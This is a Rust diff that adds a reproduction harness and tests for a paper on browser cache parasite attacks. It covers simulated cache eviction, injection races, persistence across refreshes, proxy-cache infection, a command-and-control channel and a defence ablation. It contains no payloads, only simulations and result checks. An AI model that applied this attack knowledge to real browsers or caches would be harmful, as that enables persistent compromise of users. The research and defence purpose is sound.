+/// Runs the Figure 5 policy scan over a generated population.
+pub fn fig5_csp_stats(sites: usize, seed: u64) -> Fig5Result {
+    let population = Population::generate(PopulationConfig::small(sites, seed));
+    Fig5Result {
+        scan: scan(&population),
+    }
+}
+
+// ---------------------------------------------------------------------------
+// §VIII — defence ablation
+// ---------------------------------------------------------------------------
+
+/// Result of the defence ablation.
+#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize)]
+pub struct AblationResult {
+    /// One row per defence.
+    pub rows: Vec<AblationRow>,
+}
+
+impl AblationResult {
+    /// Renders the defence / stage matrix.
+    pub fn render(&self) -> String {
+        let mut out = String::from("Countermeasure ablation (which attack stages still succeed)\n");
+        out.push_str(&format!("{:<42}", "defence"));
+        for stage in AttackStage::ALL {
+            out.push_str(&format!(" | {stage:<26}"));
+        }
+        out.push('\n');
+        for row in &self.rows {
+            out.push_str(&format!("{:<42}", row.defense.to_string()));
+            for stage in AttackStage::ALL {
+                let survives = row.surviving_stages.contains(&stage);
+                out.push_str(&format!(" | {:<26}", if survives { "survives" } else { "blocked" }));
+            }
+            out.push('\n');
+        }
+        out
+    }
+}
+
+/// Runs the §VIII defence ablation.
+pub fn ablation_defenses() -> AblationResult {
+    AblationResult {
+        rows: ablation_matrix(),
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn table1_reproduces_the_papers_shape() {
+        let result = table1_cache_eviction(1000);
+        assert_eq!(result.rows.len(), 6);
+        let ie = result.rows.iter().find(|r| r.browser.starts_with("IE")).unwrap();
+        assert!(!ie.evicted_targets);
+        assert_eq!(ie.remark, "DOS on memory");
+        let chrome = result.rows.iter().find(|r| r.browser.starts_with("Chrome 81")).unwrap();
+        assert!(chrome.evicted_targets);
+        assert!(result.render().contains("DOS on memory"));
+    }
+
+    #[test]
+    fn table2_all_supported_combinations_succeed() {
+        let result = table2_injection_matrix();
+        assert_eq!(result.rows.len(), 5);
+        assert!(result.all_supported_succeed());
+        // IE and Edge are n/a outside Windows, Safari outside Apple platforms.
+        let render = result.render();
+        assert!(render.contains("n/a"));
+    }
+
+    #[test]
+    fn table3_matches_the_paper() {
+        let result = table3_refresh_methods();
+        let chrome = result.rows.iter().find(|(name, _)| name == "Chrome").unwrap();
+        assert_eq!(chrome.1[0], RemovalCell::Survived, "Ctrl+F5 does not remove the parasite");
+        assert_eq!(chrome.1[1], RemovalCell::Survived, "clear cache does not remove the parasite");
+        assert_eq!(chrome.1[2], RemovalCell::Removed, "clearing cookies removes it");
+        let ie = result.rows.iter().find(|(name, _)| name == "IE").unwrap();
+        assert!(ie.1.iter().all(|c| *c == RemovalCell::NotApplicable));
+    }
+
+    #[test]
+    fn table4_http_is_always_infectable_and_https_is_harder() {
+        let result = table4_caches();
+        assert_eq!(result.rows.len(), 23);
+        let http_count = result.rows.iter().filter(|r| r.infected_over_http).count();
+        let https_count = result.rows.iter().filter(|r| r.infected_over_https).count();
+        assert!(http_count > https_count);
+        let squid = result.rows.iter().find(|r| r.name == "Squid").unwrap();
+        assert!(squid.infected_over_http);
+        let bluecoat = result.rows.iter().find(|r| r.name == "Blue Coat ProxySG").unwrap();
+        assert!(!bluecoat.infected_over_https);
+    }
+
+    #[test]
+    fn table5_attacks_mostly_succeed_with_requirements_met() {
+        let result = table5_attacks();
+        assert!(result.reports.len() >= 15, "got {}", result.reports.len());
+        assert!(result.successes() >= 14, "successes: {}", result.successes());
+        assert!(result.render().contains("Transaction Manipulation"));
+    }
+
+    #[test]
+    fn figure_flows_render_their_phases() {
+        let fig1 = fig1_eviction_flow();
+        assert!(fig1.steps.iter().any(|s| s.contains("junk")));
+        assert!(fig1.render().contains("Figure 1"));
+        let fig2 = fig2_infection_flow();
+        assert!(fig2.steps.iter().any(|s| s.contains("[ATTACK]")));
+        assert!(fig2.steps.iter().any(|s| s.contains("t=500198")));
+    }
+
+    #[test]
+    fn fig3_fig4_fig5_and_ablation_produce_consistent_output() {
+        let fig3 = fig3_persistency(400, 20, 7);
+        assert_eq!(fig3.series.days.len(), 20);
+        assert!(fig3.render().contains("day"));
+
+        let fig4 = fig4_cnc_channel();
+        assert!(fig4.command_bytes_delivered > 0);
+        assert!(fig4.upstream_bytes_delivered > 0);
+        assert!(fig4.goodput_curve.iter().any(|(p, g)| *p == 25 && (*g - 100_000.0).abs() < 1.0));
+
+        let fig5 = fig5_csp_stats(1500, 3);
+        assert_eq!(fig5.scan.total, 1500);
+        assert!(fig5.render().contains("connect-src"));
+
+        let ablation = ablation_defenses();
+        assert_eq!(ablation.rows.len(), 7);
+        assert!(ablation.render().contains("blocked"));
+    }
+
+    #[test]
+    fn injection_race_is_deterministic_per_seed() {
+        assert!(run_injection_race(1));
+        assert!(run_injection_race(2));
+    }
+}
